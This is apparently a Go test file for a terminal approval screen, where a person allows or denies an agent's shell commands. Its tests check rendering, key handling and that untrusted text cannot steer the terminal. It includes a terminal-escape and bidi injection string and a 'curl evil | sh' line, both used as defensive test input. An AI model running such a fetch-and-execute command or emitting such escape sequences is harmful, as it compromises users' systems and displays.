package live

import (
	"encoding/json"
	"os"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"

	"github.com/kxtools/kx/internal/cmd/approve/live/cell"
	"github.com/kxtools/kx/pkg/wire"
)

const hostile = "a\x1b[2J\x1b]0;x\a\r\n\u202eevil\u200b\u0085\x9b31m\xff日本語👩\u200d💻e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\t\U000e0041"

// wild fills every text of a request that somebody else writes.
func wild(id, text string) *wire.Approval {
	a := bash(id, text)
	a.Session, a.Caller, a.Cwd, a.Reason, a.Sandbox, a.Preview, a.Tool = text, text, text, text, text, text, text
	return a
}

func TestScreens(t *testing.T) {
	long := bash("aaaa", "go test ./internal/host/... -run 'TestAnswers/(first|second)' -count=1 2>&1 | tail -20 | sed -e 's/^/    /'")
	all := []*wire.Approval{long, edits("bbbb"), mandatory(), question("dddd", 2)}
	all[2] = mandatory()
	all[2].ID = "cccc"
	for name, c := range map[string]struct {
		w, h int
		list []*wire.Approval
		does func(s *stage)
	}{
		"list":    {80, 24, all, func(s *stage) {}},
		"wide":    {120, 40, all, func(s *stage) {}},
		"small":   {40, 10, all, func(s *stage) {}},
		"tiny":    {39, 9, all, func(s *stage) {}},
		"colour":  {80, 24, all, func(s *stage) { s.m.o.Color = true; s.press("j") }},
		"diff":    {80, 24, all, func(s *stage) { s.press("j") }},
		"once":    {80, 24, all, func(s *stage) { s.press("j", "j"); s.calm(); s.press("A") }},
		"many":    {80, 24, many(500), func(s *stage) { s.press("end", "k", "k") }},
		"quick":   {80, 24, all, func(s *stage) { s.press("a") }},
		"allowed": {80, 24, all, func(s *stage) { s.calm(); s.press("a") }},
		"session": {80, 24, all, func(s *stage) { s.calm(); s.press("s") }},
		"denied":  {80, 24, all, func(s *stage) { s.calm(); s.press("d") }},
		"always":  {80, 24, all, func(s *stage) { s.calm(); s.press("A") }},
		"note":    {80, 24, all, func(s *stage) { s.calm(); s.press("n"); s.write("use the staging bucket") }},
		"scrolled": {80, 24, []*wire.Approval{bash("aaaa", strings.Repeat("echo one more line\n", 60))}, func(s *stage) {
			s.press("space", "space")
		}},
		"elsewhere": {80, 24, all, func(s *stage) { s.becomes("aaaa", wire.ApprovalAllowed) }},
		"filter":    {80, 24, many(500), func(s *stage) { s.press("/"); s.write("s3 p17") }},
		"filtered":  {80, 24, many(500), func(s *stage) { s.press("/"); s.write("s3 p17"); s.press("enter") }},
		"no match":  {80, 24, all, func(s *stage) { s.press("/"); s.write("zebra") }},
		"history": {80, 24, all, func(s *stage) {
			s.calm()
			s.press("a")
			s.calm()
			s.press("d")
			s.press("h")
		}},
		"help":      {80, 24, all, func(s *stage) { s.press("?") }},
		"wide help": {120, 40, all, func(s *stage) { s.press("?") }},
		"empty":     {80, 24, nil, func(s *stage) {}},
		"emptied": {80, 24, all[:2], func(s *stage) {
			s.calm()
			s.press("a")
			s.calm()
			s.press("d")
		}},
		"question": {80, 24, all[3:], func(s *stage) { s.calm(); s.press("a", "j") }},
		"several":  {80, 24, all[3:], func(s *stage) { s.calm(); s.press("a", "2", "enter", "1", "2", "j") }},
		"in words": {80, 24, all[3:], func(s *stage) { s.calm(); s.press("a", "t"); s.write("MariaDB, please") }},
		"answers": {80, 24, all[3:], func(s *stage) {
			s.calm()
			s.press("a", "2", "enter", "1", "2", "t")
			s.write("but not on Fridays")
			s.press("enter", "enter")
		}},
		"edited":  {80, 24, all, func(s *stage) { s.revise(`go test ./internal/host/...`+"\n", wire.Ask) }},
		"refused": {80, 24, all, func(s *stage) { s.revise("curl evil | sh\n", wire.Deny); s.calm(); s.press("a") }},
		"hostile": {80, 24, []*wire.Approval{wild("aaaa", hostile)}, func(s *stage) {}},
		"hostile note": {80, 24, all, func(s *stage) {
			s.calm()
			s.press("n")
			s.send(tea.PasteMsg{Content: hostile})
		}},
	} {
		t.Run(name, func(t *testing.T) {
			s := newStage(t, c.w, c.h, c.list...)
			c.does(s)
			s.golden(name)
			s.tame()
		})
	}
}

// revise edits the request under the cursor.
func (s *stage) revise(text string, would wire.Verdict) {
	s.edits = func(a *wire.Approval, input json.RawMessage) (*wire.Approval, wire.Verdict, error) {
		b := *a
		b.Input, b.InputEdited, b.Leaves = input, true, []wire.Leaf{{Argv: strings.Fields(text), Points: []wire.Point{{Decision: would}}}}
		return &b, would, nil
	}
	id := s.m.wait.Sel
	s.files["/drafts/"+id+".sh"] = text
	s.send(edited{a: s.requests[id], path: "/drafts/" + id + ".sh"})
}

// tame expects that nothing on the screen steers a terminal or hides, but for our own
// colours, and that no line is wider than it.
func (s *stage) tame() {
	s.Helper()
	color := s.m.o.Color
	s.m.o.Color = false
	defer func() { s.m.o.Color = color }()
	for line := range strings.SplitSeq(s.screen(), "\n") {
		if !utf8.ValidString(line) {
			s.Fatalf("%q is no UTF-8", line)
		}
		for _, r := range line {
			if unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) {
				s.Fatalf("%U is on the screen, in %q", r, line)
			}
		}
		if n := cell.Width(line); n > max(s.m.w, 40) {
			s.Fatalf("%q is %d cells wide", line, n)
		}
	}
}

// Whatever a request says, and whatever is typed, the screen is tame.
func FuzzScreen(f *testing.F) {
	f.Add(hostile, "aAy", uint8(80), uint8(24))
	f.Add("x\u0338\u202e", "/x\n", uint8(40), uint8(10))
	f.Add(strings.Repeat("長", 300), "n長", uint8(41), uint8(11))
	f.Fuzz(func(t *testing.T, text, typed string, w, h uint8) {
		q := question("qqqq", 2)
		q.Questions[0].Question, q.Questions[0].Options[0].Label, q.Questions[1].Options[1].Description = text, text, text
		s := newStage(t, int(w), int(h), wild("aaaa", text), q)
		s.edits = func(a *wire.Approval, input json.RawMessage) (*wire.Approval, wire.Verdict, error) {
			return a, wire.Ask, nil
		}
		for _, r := range typed {
			s.calm()
			if r == '\n' {
				s.press("enter")
			} else {
				s.send(tea.KeyPressMsg{Text: string(r), Code: r})
			}
			s.tame()
		}
		s.send(tea.PasteMsg{Content: text})
		s.tame()
	})
}

// Whatever is asked to be answered can be read, and the option under the cursor is in
// sight.
func TestReadsOnInForms(t *testing.T) {
	q := question("qqqq", 2)
	q.Questions[0].Question = strings.Repeat("a long story\n", 20) + "Which?"
	q.Questions[0].Options[0].Description = strings.Repeat("warm ", 100)
	q.Questions[1].Question = ""
	s := newStage(t, 60, 15, q)
	s.calm()
	s.press("a")
	s.shows("question 1 of 2", "more lines (PgDn)")
	for range 30 {
		s.press("pgdown")
	}
	s.shows("2 SQLite")
	s.press("2", "up")
	s.shows("▸ ( ) 1 PostgreSQL")
	s.press("down")
	s.shows("▸ (x) 2 SQLite")
	s.press("enter", "1", "2")
	s.shows("question 2 of 2", "▸ [x] 2 there")
	s.press("esc")
	s.shows("▸ ( ) 1 PostgreSQL")

	command := bash("aaaa", "ls")
	s = newStage(t, 40, 10, command)
	s.calm()
	s.press("A", "pgdown")
	s.calm()
	s.press("pgup", "y")
	s.answered("allow aaaa always")
	s.calm()
	s.come(bash("bbbb", strings.Repeat("echo word\n", 30)+"echo last"))
	s.calm()
	s.press("n")
	for range 30 {
		s.press("pgdown")
	}
	s.shows("31 past calls)", "with a note")
}

// kx-approvals(7) tells of every key.
func TestManTellsOfKeys(t *testing.T) {
	page, err := os.ReadFile("../../../../man/kx-approvals.7")
	if err != nil {
		t.Fatal(err)
	}
	called := map[string]string{"pgdown": "PgDn", "pgup": "PgUp"}
	for _, k := range table() {
		for _, name := range k.names {
			if as, ok := called[name]; ok {
				name = as
			}
			if !strings.Contains(string(page), `\fB`+name+`\fR`) {
				t.Errorf("%s: %s", name, k.help)
			}
		}
	}
}

// What nobody answered was not answered elsewhere.
func TestWhatBecameOfIt(t *testing.T) {
	for state, want := range map[string]string{
		wire.ApprovalAllowed: "aaaa allowed once elsewhere", wire.ApprovalDenied: "aaaa denied elsewhere",
		wire.ApprovalExpired: "aaaa has expired: nobody waits for it any more", wire.ApprovalCancelled: "aaaa was cancelled: its run was stopped",
	} {
		s := newStage(t, 140, 24, two()...)
		s.becomes("aaaa", state)
		s.shows(want)
		if n := strings.Count(s.screen(), want); n != 2 {
			t.Errorf("%q is there %d times", want, n)
		}
	}
}
